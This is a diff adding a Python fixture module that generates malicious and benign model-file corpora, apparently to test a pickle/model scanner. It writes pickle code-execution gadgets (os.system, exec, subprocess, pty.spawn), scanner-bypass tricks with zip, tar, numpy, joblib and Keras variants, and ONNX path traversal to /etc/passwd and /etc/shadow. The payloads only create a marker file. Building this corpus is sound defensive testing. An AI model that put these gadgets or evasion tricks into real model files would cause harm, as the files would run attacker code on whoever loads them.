@@ -1,0 +1,391 @@
+"""The crafted malicious corpus and the benign set, generated (never downloaded).
+
+Malicious pickles are written opcode by opcode. Each payload is a code-execution or
+file/network gadget; those that run a command or code create ``marker`` (see
+``MARKER_CASES``, proven by loading them in a subprocess), so a scan that leaves no
+marker behind ran nothing. Shared by the tests and by
+``benchmarks/scan_models.py``.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import pickle
+import struct
+import tarfile
+import zipfile
+import zlib
+from collections import OrderedDict
+from pathlib import Path
+
+__all__ = ["MARKER_CASES", "benign_corpus", "malicious_corpus"]
+
+MARKER_CASES = (
+    "proto0_global_os_system",
+    "stack_global_builtins_exec",
+    "bypass_stack_global_via_memo",
+    "bypass_stack_global_via_long_binget",
+    "bypass_stack_global_via_text_get",
+    "bypass_unresolved_stack_global",
+    "builtins_getattr_import_chain",
+    "inst_opcode",
+    "obj_opcode",
+)
+
+
+def sbu(s: str) -> bytes:
+    """SHORT_BINUNICODE."""
+    b = s.encode()
+    return b"\x8c" + bytes([len(b)]) + b
+
+
+def call_global(mod: str, name: str, arg: str, proto: int = 4) -> bytes:
+    """mod.name(arg) with STACK_GLOBAL."""
+    return b"\x80" + bytes([proto]) + sbu(mod) + sbu(name) + b"\x93" + sbu(arg) + b"\x85R."
+
+
+def call_global0(mod: str, name: str, arg: str) -> bytes:
+    """mod.name(arg) with protocol 0 text opcodes."""
+    return f"c{mod}\n{name}\n(S'{arg}'\ntR.".encode()
+
+
+def _touch_cmd(marker: Path) -> str:
+    return f"touch {marker}"
+
+
+def _exec_src(marker: Path) -> str:
+    return f"open({str(marker)!r}, 'w').close()"
+
+
+def _zip(entries: dict[str, bytes], *, method: int = zipfile.ZIP_STORED) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression=method) as zf:
+        for name, data in entries.items():
+            zf.writestr(name, data)
+    return buf.getvalue()
+
+
+def _torch_zip(data_pkl: bytes, top: str = "archive") -> bytes:
+    return _zip(
+        {
+            f"{top}/data.pkl": data_pkl,
+            f"{top}/byteorder": b"little",
+            f"{top}/data/0": b"\x00" * 16,
+            f"{top}/version": b"3\n",
+        }
+    )
+
+
+def _patch_local(z: bytes, fn: object) -> bytes:
+    """Apply ``fn(bytearray, local_header_offset)`` to the first local header."""
+    b = bytearray(z)
+    fn(b, 0)  # type: ignore[operator]
+    return bytes(b)
+
+
+def _bad_crc(z: bytes) -> bytes:
+    b = bytearray(z)
+    # Corrupt the CRC in the local header and in the central directory entry.
+    b[14:18] = b"\xde\xad\xbe\xef"
+    cd = b.find(b"PK\x01\x02")
+    b[cd + 16 : cd + 20] = b"\xde\xad\xbe\xef"
+    return bytes(b)
+
+
+def _flag_bits(z: bytes) -> bytes:
+    b = bytearray(z)
+    b[6:8] = (0x0800 | 0x0002 | 0x0004).to_bytes(2, "little")  # flags zipfile/picklescan choke on
+    cd = b.find(b"PK\x01\x02")
+    b[cd + 8 : cd + 10] = (0x0800 | 0x0002 | 0x0004).to_bytes(2, "little")
+    return bytes(b)
+
+
+def _name_mismatch(z: bytes) -> bytes:
+    b = bytearray(z)
+    ln = int.from_bytes(b[26:28], "little")
+    name = bytes(b[30 : 30 + ln])
+    b[30 : 30 + ln] = name.replace(b"data.pkl", b"data.txt")
+    return bytes(b)
+
+
+def _npy_object(payload: bytes) -> bytes:
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * (63 - (10 + len(header)) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload
+
+
+def _legacy_torch(second: bytes) -> bytes:
+    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
+    version = pickle.dumps(1001, protocol=2)
+    sysinfo = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
+    return magic + version + sysinfo + second + pickle.dumps([], protocol=2) + b"\x00" * 64
+
+
+def _keras(config: dict[str, object]) -> bytes:
+    return _zip(
+        {
+            "metadata.json": json.dumps({"keras_version": "3.5.0"}).encode(),
+            "config.json": json.dumps(config).encode(),
+            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64,
+        },
+        method=zipfile.ZIP_DEFLATED,
+    )
+
+
+def _onnx(external: str | None = None, domain: str | None = None) -> bytes:
+    import onnx
+    from onnx import TensorProto, helper
+
+    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2])
+    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])
+    w = helper.make_tensor("w", TensorProto.FLOAT, [1, 2], [1.0, 2.0])
+    if external is not None:
+        w = TensorProto()
+        w.name = "w"
+        w.data_type = TensorProto.FLOAT
+        w.dims.extend([1, 2])
+        w.data_location = TensorProto.EXTERNAL
+        e = w.external_data.add()
+        e.key, e.value = "location", external
+    node = helper.make_node("Add", ["x", "w"], ["y"], domain=domain or "")
+    opsets = [helper.make_opsetid("", 17)]
+    if domain:
+        opsets.append(helper.make_opsetid(domain, 1))
+    graph = helper.make_graph([node], "g", [x], [y], [w])
+    model = helper.make_model(graph, opset_imports=opsets)
+    data: bytes = model.SerializeToString()
+    onnx.checker.check_model(model) if external is None and domain is None else None
+    return data
+
+
+def _joblib_object_array(payload: bytes) -> bytes:
+    """A real joblib dump of an object array, its nested pickle replaced by ``payload``."""
+    import joblib
+    import numpy as np
+
+    from bastion.integrity._pickle import walk_pickles
+
+    buf = io.BytesIO()
+    joblib.dump(np.array([1, "x"], dtype=object), buf)
+    data = buf.getvalue()
+    res = walk_pickles(data)
+    (start, _), = res.nested
+    import pickletools
+
+    end = start
+    for op, _arg, pos in pickletools.genops(data[start:]):
+        if op.name == "STOP":
+            end = start + pos + 1  # type: ignore[operator]
+    return data[:start] + payload + data[end:]
+
+
+def malicious_corpus(marker: Path) -> dict[str, bytes]:
+    """Name (the technique) -> file bytes. Every one would create ``marker`` if loaded."""
+    cmd = _touch_cmd(marker)
+    src = _exec_src(marker)
+    evil = call_global("builtins", "exec", src)
+    memo = (
+        b"\x80\x04"
+        + sbu("builtins") + b"\x94" + sbu("exec") + b"\x94" + b"00"  # push, memoize, pop both
+        + b"h\x00h\x01\x93" + sbu(src) + b"\x85R."
+    )  # fmt: skip
+    memo_long = (
+        b"\x80\x04" + sbu("posix") + b"r\x07\x00\x00\x00" + sbu("system") + b"r\x09\x00\x00\x00"
+        + b"00j\x07\x00\x00\x00j\x09\x00\x00\x00\x93" + sbu(cmd) + b"\x85R."
+    )  # fmt: skip
+    text_memo = f"\x80\x02Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93V{cmd}\n\x85R.".encode("latin-1")
+    binstring = b"\x80\x02U\x08builtinsU\x04exec\x93U" + bytes([len(src)]) + src.encode() + b"\x85R."
+    unresolved = (
+        b"\x80\x04" + sbu("builtins") + sbu("str") + b"\x93" + sbu("os") + b"\x85R"
+        + sbu("system") + b"\x93" + sbu(cmd) + b"\x85R."
+    )  # fmt: skip
+    getattr_chain = (
+        b"\x80\x04" + sbu("builtins") + sbu("getattr") + b"\x93"
+        + sbu("builtins") + sbu("__import__") + b"\x93" + sbu("os") + b"\x85R"
+        + sbu("system") + b"\x86R" + sbu(cmd) + b"\x85R."
+    )  # fmt: skip
+    partial = (
+        b"\x80\x04" + sbu("functools") + sbu("partial") + b"\x93"
+        + sbu("os") + sbu("system") + b"\x93" + sbu(cmd) + b"\x86R)R."
+    )  # fmt: skip
+    inst = f"(S'{cmd}'\nios\nsystem\n.".encode()
+    obj = f"(cos\nsystem\nS'{cmd}'\no.".encode()
+    popen = (
+        b"\x80\x04" + sbu("subprocess") + sbu("Popen") + b"\x93"
+        + sbu("sh") + sbu("-c") + sbu(cmd) + b"\x87\x85R."
+    )  # fmt: skip
+    global_memo_reuse = (
+        b"\x80\x04" + sbu("nt") + sbu("system") + b"\x93\x94" + b"0h\x00" + sbu(cmd) + b"\x85R."
+    )  # fmt: skip
+    ext = b"\x80\x02\x82\x01" + sbu(cmd) + b"\x85R."
+    payload_then_garbage = call_global("builtins", "exec", src)[:-1] + b"\xff\xfe garbage"
+    dict_hidden = (
+        b"\x80\x04}\x94(" + sbu("a") + b"K\x01" + sbu("b")
+        + call_global("os", "system", cmd)[2:-1] + b"u."
+    )  # fmt: skip
+    corpus = {
+        "proto0_global_os_system": call_global0("os", "system", cmd),
+        "proto0_global_posix_system": call_global0("posix", "system", cmd),
+        "proto2_global_subprocess": (b"\x80\x02" + call_global0("subprocess", "getoutput", cmd)),
+        "stack_global_builtins_exec": evil,
+        "bypass_stack_global_via_memo": memo,
+        "bypass_stack_global_via_long_binget": memo_long,
+        "bypass_stack_global_via_text_get": text_memo,
+        "bypass_stack_global_binstring": binstring,
+        "bypass_unresolved_stack_global": unresolved,
+        "builtins_getattr_import_chain": getattr_chain,
+        "functools_partial_os_system": partial,
+        "inst_opcode": inst,
+        "obj_opcode": obj,
+        "subprocess_popen_argv": popen,
+        "global_reused_from_memo": global_memo_reuse,
+        "ext1_extension_registry": ext,
+        "payload_then_malformed_tail": payload_then_garbage,
+        "payload_inside_dict_value": dict_hidden,
+        "cve_2025_1716_pip_main": call_global("pip", "main", "install"),
+        "cve_2025_10157_asyncio_submodule": call_global("asyncio.unix_events", "_UnixSubprocessTransport", cmd),
+        "runpy_run_path": call_global("runpy", "_run_code", src),
+        "operator_attrgetter": call_global("_operator", "attrgetter", "system"),
+        "types_functiontype": call_global("types", "FunctionType", src),
+        "numpy_testing_runstring": call_global("numpy.testing._private.utils", "runstring", src),
+        "torch_load_from_bytes": call_global("torch.storage", "_load_from_bytes", src),
+        "pydoc_locate": call_global("pydoc", "locate", "os.system"),
+        "timeit_timeit": call_global("timeit", "timeit", src),
+        "cprofile_run": call_global("cProfile", "run", src),
+        "pdb_run": call_global("pdb", "run", src),
+        "code_interact": call_global("code", "InteractiveInterpreter", src),
+        "webbrowser_open": call_global("webbrowser", "open", "file:///etc/passwd"),
+        "shutil_rmtree": call_global("shutil", "rmtree", str(marker.parent / "x")),
+        "socket_create_connection": call_global("socket", "create_connection", "x"),
+        "ctypes_cdll": call_global("ctypes", "CDLL", "libc.so.6"),
+        "importlib_import_module": call_global("importlib", "import_module", "os"),
+        "marshal_loads": call_global("marshal", "loads", src),
+        "pickle_loads_nested": call_global("pickle", "loads", src),
+        "bdb_run": call_global("bdb", "Bdb", src),
+        "pty_spawn": call_global("pty", "spawn", cmd),
+        "unknown_module_suspicious": call_global("evilpkg.payload", "run", cmd),
+        "python2_builtin_eval": call_global0("__builtin__", "eval", src),
+        "dotted_name_to_globals": call_global("collections", "OrderedDict.__init__.__globals__", "x"),
+        "protocol5_frame": b"\x80\x05\x95" + (len(evil) - 3).to_bytes(8, "little") + evil[2:],
+        "bypass_torch_legacy_format": _legacy_torch(evil),
+        "torch_zip_nonstandard_top_folder": _torch_zip(evil, top="weights-v2"),
+        "bypass_nonstandard_extension_torch_zip": _torch_zip(evil, top="x"),
+        "bypass_bad_crc_zip": _bad_crc(_torch_zip(evil)),
+        "cve_2025_1945_zip_flag_bits": _flag_bits(_torch_zip(evil)),
+        "cve_2025_1944_zip_name_mismatch": _name_mismatch(_torch_zip(evil)),
+        "zip_prepended_data": b"\x00" * 100 + _torch_zip(evil),
+        "zip_deflated_entry": _zip({"m/data.pkl": evil}, method=zipfile.ZIP_DEFLATED),
+        "zip_in_zip": _zip({"inner.bin": _torch_zip(evil)}),
+        "tar_member": _tar({"model/data.pkl": evil}),
+        "tgz_member": _gz(_tar({"model.bin": evil})),
+        "gzip_pickle": _gz(evil),
+        "npy_object_array": _npy_object(evil),
+        "npz_object_array": _zip({"arr_0.npy": _npy_object(evil)}),
+        "joblib_object_array": _joblib_object_array(evil),
+        "keras_lambda_layer": _keras(
+            {"class_name": "Sequential", "module": "keras", "config": {"layers": [
+                {"class_name": "Lambda", "module": "keras.layers",
+                 "config": {"name": "l", "function": {"class_name": "__lambda__",
+                            "config": {"code": "4wEAAAAAAAAA"}}}}]}}
+        ),  # fmt: skip
+        "cve_2025_1550_keras_module_function": _keras(
+            {"class_name": "Sequential", "module": "keras", "config": {"layers": [
+                {"class_name": "Dense", "module": "keras.layers", "config": {
+                    "activation": {"module": "os", "class_name": "function",
+                                   "config": "system", "registered_name": "function"}}}]}}
+        ),  # fmt: skip
+        "hdf5_keras_lambda": b"\x89HDF\r\n\x1a\n" + b"\x00" * 32
+        + b'{"class_name": "Lambda", "config": {"function": "..."}}',
+        "onnx_external_data_traversal": _onnx(external="../../../etc/passwd"),
+        "onnx_external_data_absolute": _onnx(external="/etc/shadow"),
+        "onnx_custom_op_domain": _onnx(domain="com.evil.ops"),
+    }
+    return corpus
+
+
+def _tar(entries: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
+        for name, data in entries.items():
+            ti = tarfile.TarInfo(name)
+            ti.size = len(data)
+            tf.addfile(ti, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def _gz(data: bytes) -> bytes:
+    c = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
+    return c.compress(data) + c.flush()
+
+
+def _safetensors(tensors: dict[str, tuple[str, list[int], bytes]]) -> bytes:
+    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
+    blob = b""
+    for name, (dtype, shape, data) in tensors.items():
+        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(blob), len(blob) + len(data)]}
+        blob += data
+    h = json.dumps(header).encode()
+    h += b" " * (-len(h) % 8)
+    return struct.pack("<Q", len(h)) + h + blob
+
+
+def benign_corpus(work: Path, sklearn_model: Path | None = None) -> dict[str, bytes]:
+    """Name -> bytes of ordinary model files from torch, numpy, scikit-learn, joblib, onnx."""
+    import joblib
+    import numpy as np
+    import torch
+
+    out: dict[str, bytes] = {}
+    sd = OrderedDict(
+        [("fc.weight", torch.arange(6, dtype=torch.float32).reshape(2, 3)), ("fc.bias", torch.zeros(2))]
+    )
+    b = io.BytesIO()
+    torch.save(sd, b)
+    out["torch_state_dict_zip"] = b.getvalue()
+    b = io.BytesIO()
+    torch.save(sd, b, _use_new_zipfile_serialization=False)
+    out["torch_state_dict_legacy"] = b.getvalue()
+    b = io.BytesIO()
+    torch.save({"epoch": 3, "state": sd, "opt": {"lr": 0.01, "betas": (0.9, 0.99)}}, b)
+    out["torch_checkpoint_dict"] = b.getvalue()
+    b = io.BytesIO()
+    np.save(b, np.arange(12, dtype=np.float64).reshape(3, 4))
+    out["numpy_npy"] = b.getvalue()
+    b = io.BytesIO()
+    np.savez(b, a=np.ones(3), b=np.arange(4, dtype=np.int32))
+    out["numpy_npz"] = b.getvalue()
+    b = io.BytesIO()
+    np.savez_compressed(b, a=np.ones((10, 10)))
+    out["numpy_npz_compressed"] = b.getvalue()
+    out["numpy_pickle"] = pickle.dumps(np.linspace(0, 1, 5), protocol=2)
+    b = io.BytesIO()
+    joblib.dump({"w": np.ones((4, 4)), "name": "m", "ids": np.arange(5)}, b)
+    out["joblib_arrays"] = b.getvalue()
+    for p in range(6):
+        out[f"pickle_data_protocol{p}"] = pickle.dumps(
+            {"a": [1, 2.5, "x", None, True], "b": (1, 2), "c": {3, 4}, "d": b"\x00\x01",
+             "e": OrderedDict(k=1), "f": frozenset({1}), "g": bytearray(b"z")},
+            protocol=p,
+        )  # fmt: skip
+    out["safetensors"] = _safetensors(
+        {"w": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4)), "b": ("I64", [1], struct.pack("<q", 7))}
+    )
+    out["onnx_add"] = _onnx()
+    out["keras_dense"] = _keras(
+        {"class_name": "Sequential", "module": "keras", "config": {"layers": [
+            {"class_name": "Dense", "module": "keras.layers", "registered_name": None,
+             "config": {"units": 2, "activation": "relu"}}]}}
+    )  # fmt: skip
+    if sklearn_model is not None:
+        model_bytes = sklearn_model.read_bytes()
+        out["sklearn_hgb_pickle"] = model_bytes
+        import sklearn.linear_model
+
+        lr = sklearn.linear_model.LogisticRegression().fit(np.eye(4), [0, 1, 0, 1])
+        b = io.BytesIO()
+        joblib.dump(lr, b)
+        out["sklearn_logreg_joblib"] = b.getvalue()
+        out["sklearn_logreg_pickle"] = pickle.dumps(lr)
+    _ = work
+    return out
